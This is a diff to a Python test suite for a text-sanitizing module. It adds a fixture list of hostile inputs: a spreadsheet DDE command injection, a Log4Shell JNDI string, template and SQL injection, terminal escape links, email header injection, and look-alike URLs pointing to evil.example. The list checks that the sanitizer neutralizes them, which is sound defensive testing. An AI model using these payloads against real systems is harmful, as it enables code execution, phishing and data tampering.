@@ -7,7 +7,7 @@ import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from watcher.domain.inert import NAME_LENGTH, inert, inert_name, inert_url
+from watcher.domain.inert import NAME_LENGTH, inert, inert_name, inert_url, is_address
 
 RIGHT_TO_LEFT, ISOLATE, ZERO_WIDTH, JOINER = "\u202e", "\u2066", "\u200b", "\u2060"
 MENTIONS = (
@@ -63,8 +63,25 @@ HIDDEN = (
     "\u115f\u1160",
     "\uffa0",
 )
+CODE = (
+    '=HYPERLINK("https://evil.example","bank")',
+    "+1+cmd|' /C calc'!A0",
+    "${jndi:ldap://evil.example/a}",
+    "{{7*7}}{% raw %}#{7*7}",
+    "\x1b]8;;https://evil.example\x07bank\x1b]8;;\x07",
+    "\x9b31m\x1b[2J",
+    "<@U1|everyone>",
+    "<!date^0^{date}^https://evil.example|x>",
+    "<mailto:a@evil.example|b>",
+    "ｈｔｔｐｓ：／／evil.example",
+    "𝒽𝓉𝓉𝓅𝓈://𝑒𝓋𝒾𝓁.𝑒𝓍𝒶𝓂𝓅𝓁𝑒",
+    "=?utf-8?q?=0D=0ABcc:_x@evil.example?=",
+    "]]>]]&gt;<![CDATA[<b>]]>",
+    "' OR 1=1 -- \"; DROP TABLE x",
+    "> quote\n# heading\n- list\n1. one\n---\n| a | b |",
+)
 LONG = ("x" * 100_000, "@" * 5_000, "[" * 5_000, "<" * 5_000, "._" * 5_000, ":a" * 5_000, "&" * 5_000, "/a" * 5_000)
-HOSTILE = (*MENTIONS, *LINKS, *MARKUP, *LINES, *HIDDEN, *LONG, "", " ", "   \n ")
+HOSTILE = (*MENTIONS, *LINKS, *MARKUP, *LINES, *HIDDEN, *CODE, *LONG, "", " ", "   \n ")
 
 LIVE = {
     "a mention": r"[@＠﹫][^\s”…]",
@@ -186,3 +203,11 @@ def test_a_link_is_one_link_or_none(url: str, shown: str) -> None:
 def test_a_text_that_is_harmless_at_a_glance_is_so_at_a_closer_look(text: str) -> None:
     # The dagger is looked at closely, and with it all that stands before it, which it does not change.
     assert inert(f"{text} †") == f"{inert(text)} †".lstrip()
+
+
+@pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
+def test_whatever_becomes_a_link_is_an_address_and_nothing_else_is(name: str) -> None:
+    link = inert_url(f"https://host/c/{name}")
+    assert is_address(link) == bool(link)
+    assert not re.search(r"[\s<>|\"'`*\\@]|&#?\w+;", link)
+    assert not is_address(inert(name))
